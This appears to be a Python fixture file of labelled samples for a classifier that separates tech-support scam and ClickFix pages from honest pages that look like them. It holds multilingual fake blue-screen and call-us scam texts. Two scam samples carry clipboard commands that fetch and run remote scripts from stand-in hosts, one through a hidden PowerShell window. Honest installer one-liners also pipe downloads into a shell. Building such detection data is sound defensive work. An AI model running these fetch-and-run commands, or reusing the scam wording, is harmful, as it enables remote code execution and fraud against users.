"""More shapes: screens without a brand, STOP screens, terse call-us pages, and the honest ClickFix look-alikes
(real challenge pages, install one-liners that fetch and run, help desks that say Win+R)."""
from kit import P

# ---- scams
P('es_s_nobrand', 'scam', 'https://error-sistema-0x7.site/', 'screen-bsod-nobrand', 'es', 'Error del sistema',
  '''ERROR CRÍTICO DEL SISTEMA
Su equipo ha sido bloqueado porque se ha detectado un virus peligroso.
Sus fotos, contraseñas y cuentas bancarias están en peligro.
No reinicie el equipo. Llame al servicio técnico: 900 555 018''', beh='fullscreen')

P('ru_s_nobrand', 'scam', 'https://sistemnaya-oshibka.site/', 'screen-bsod-nobrand', 'ru', 'Системная ошибка',
  '''КРИТИЧЕСКАЯ ОШИБКА СИСТЕМЫ
Компьютер заблокирован: обнаружен опасный вирус. Ваши пароли и данные карты под угрозой.
Не перезагружайте компьютер. Позвоните в техническую поддержку: 8 800 555-01-18''', beh='fullscreen')

P('de_s_stop', 'scam', 'https://fehler-0xc000021a.top/', 'screen-stop', 'de', ':(',
  ''':(
Auf Ihrem PC ist ein Problem aufgetreten. Er muss neu gestartet werden.
Stoppcode: SYSTEM_SERVICE_EXCEPTION
Wenn Sie einen Supportmitarbeiter anrufen, geben Sie ihm diese Info: 0x0000003B
Kostenlose Hotline: 0800 555 0104''', beh='fullscreen')

P('ja_s_stop', 'scam', 'https://error-0x7b.site/', 'screen-stop', 'ja', ':(',
  ''':(
PC に問題が発生したため、再起動する必要があります。エラー情報を収集しています。
停止コード：CRITICAL_PROCESS_DIED
サポート担当者に連絡する場合は、この情報を伝えてください：0x000000EF
サポート窓口：0120-555-104''', beh='fullscreen')

P('en_s_terse_call', 'scam', 'https://a8f3.z19.web.core.windows.net/', 'callus-terse', 'en', 'Error 0x80073',
  '''VIRUS DETECTED. PC LOCKED.
Call 1-888-555-0107''', beh='fullscreen')

P('en_s_broken_apple', 'scam', 'https://apple-care-helpline.site/', 'callus-apple', 'en', 'Apple Care',
  '''your mac is infected by pornographic spyware and riskware!!! your apple id and iCloud password is stolen, hacker can see your camera.
immediately call apple care expert 1-844-555-0112 dont try to fix yourself you will lost all data.''', beh='fullscreen')

P('fr_s_terse', 'scam', 'https://b7c2.z21.web.core.windows.net/', 'callus-terse', 'fr', 'Erreur',
  '''VIRUS DÉTECTÉ. ORDINATEUR BLOQUÉ.
Appelez le 01 86 55 01 07''', beh='fullscreen')

P('en_s_kaspersky_refund', 'scam', 'https://ksp-refund-desk.com/', 'callus-av', 'en', 'Refund Department',
  '''Kaspersky Refund Department
You are eligible for a refund of $299.99 because our service has been discontinued in your region.
To receive your refund, call our Refund Desk at 1-877-555-0114. A technician will connect to your computer to process the refund.''')

P('en_s_spectrum', 'scam', 'https://spectrum-outage-help.site/', 'callus-carrier', 'en', 'Service Interruption',
  '''Spectrum Internet: your router has been compromised by hackers and your internet connection will be disconnected in 30 minutes.
Call Spectrum Technical Support now at 1-833-555-0133 to keep your service.''')

P('de_s_macos', 'scam', 'https://mac-pruefung.site/', 'clickfix-macos', 'de', 'Mac-Überprüfung',
  '''Bitte bestätigen Sie Ihren Mac.
Öffnen Sie das Terminal (Befehl + Leertaste, „Terminal“ eingeben), fügen Sie den kopierten Befehl ein (Befehl + V) und drücken Sie den Zeilenschalter.''', clip='osascript -e \'do shell script "curl -s https://mac-de.example-host.top/p | sh"\'')

P('en_s_meet', 'scam', 'https://meet-join-room.site/', 'clickfix-fix', 'en', 'Meeting - microphone error',
  '''Your microphone and camera are blocked.
To fix it: press Windows + X, choose Terminal (Admin), paste with Ctrl+V and press Enter. Then rejoin the meeting.''', clip='powershell -w hidden -c "Start-Process (irm meet-fix.example-host.top/m)"')

# ---- honest ClickFix look-alikes
P('en_h_choco', 'honest', 'https://chocolatey.org/install', 'h-devdocs', 'en', 'Installing Chocolatey',
  '''Install with PowerShell
Run Get-ExecutionPolicy. If it returns Restricted, then run Set-ExecutionPolicy AllSigned or Set-ExecutionPolicy Bypass -Scope Process.
Now run the following command:
Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))
Copy''', clip="Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")

P('en_h_cfchallenge', 'honest', 'https://www.shop-example.example/', 'h-captcha', 'en', 'Just a moment...',
  '''www.shop-example.example
Verifying you are human. This may take a few seconds.
www.shop-example.example needs to review the security of your connection before proceeding.
Verify you are human
Ray ID: 8f2c5550190
Performance & security by Cloudflare''')

P('en_h_recaptcha', 'honest', 'https://accounts.forum-example.example/signup', 'h-captcha', 'en', 'Create your account',
  '''Create your account
Username
Email
I'm not a robot
Select all images with traffic lights. Click verify once there are none left.
Verify''')

P('en_h_winr', 'honest', 'https://helpdesk.acme-corp.example/kb/find-pc-name', 'h-helpdesk', 'en', 'How to find your computer name',
  '''Before you call the Service Desk, find your computer name:
1. Press Windows key + R to open the Run dialog.
2. Type msinfo32 and press Enter.
3. Read the "System Name" line and tell it to the agent.
Service Desk: +1 555 555 0150, ext. 2.''')

P('en_h_anydesk', 'honest', 'https://support.acme-corp.example/remote', 'h-helpdesk', 'en', 'Remote support session',
  '''Remote support for Acme employees
Only start a session when you have opened a ticket yourself and the technician's name matches the ticket.
Download the support client, run it, and read the session code to the technician at +1 555 555 0150.
Acme IT will never call you first to offer remote support.''')

P('de_h_choco', 'honest', 'https://docs.contoso-tools.example/de/cli', 'h-devdocs', 'de', 'Die Kommandozeile installieren',
  '''Drücken Sie Windows + R, geben Sie powershell ein und drücken Sie die Eingabetaste. Fügen Sie dann ein:
iwr -useb https://get.contoso-tools.example/cli.ps1 | iex
Kopieren''', clip='iwr -useb https://get.contoso-tools.example/cli.ps1 | iex')

P('fr_h_brew', 'honest', 'https://docs.outil-exemple.example/fr/installation-mac', 'h-devdocs', 'fr', 'Installation sur macOS',
  '''Ouvrez le Terminal (Commande + Espace, tapez « Terminal ») puis collez la commande suivante et appuyez sur Entrée :
curl -fsSL https://get.outil-exemple.example/install.sh | sh
Copier''', clip='curl -fsSL https://get.outil-exemple.example/install.sh | sh')

P('en_h_avalert', 'honest', 'https://my.norton.com/extspa/dashboard/security-history', 'h-av', 'en', 'Security History | Norton',
  '''Security History
Threat blocked: Trojan.Gen.2 was quarantined on DESKTOP-5550 at 10:41.
Your device is protected. No action needed.
Need help? Visit Norton Support or chat with an agent.''')

P('en_h_bsodkb', 'honest', 'https://learn.microsoft.com/en-us/troubleshoot/windows-client/performance/stop-error-or-blue-screen-error-troubleshooting', 'h-consumer', 'en', 'Troubleshoot blue screen errors',
  '''A Stop error (blue screen) is displayed when a problem causes the device to shut down or restart unexpectedly.
The screen shows a message such as "Your PC ran into a problem and needs to restart" and a stop code like CRITICAL_PROCESS_DIED.
Remove any new hardware, update drivers, and run the Memory Diagnostic tool. Note: a real blue screen never shows a phone number.''')

P('ja_h_court', 'honest', 'https://www.courts.go.jp/saiban/tetuzuki/shiharai/index.html', 'h-court', 'ja', '支払督促について',
  '''支払督促は、債権者の申立てにより、簡易裁判所の書記官が金銭の支払を命じる手続です。
督促状を受け取った方は、2週間以内に異議を申し立てることができます。裁判所が電話で支払いを求めたり、電子マネーでの支払いを求めることはありません。''')

P('fr_h_collector', 'honest', 'https://www.recouvrement-exemple.example/payer', 'h-debtcollector', 'fr', 'Régler votre dossier',
  '''Vous avez reçu un courrier de notre part au sujet d'une créance. Vous pouvez régler en ligne, demander un échéancier ou contester la créance.
Nos conseillers : 04 55 55 01 35, du lundi au vendredi. Nous ne demandons jamais de paiement par coupon prépayé.''')
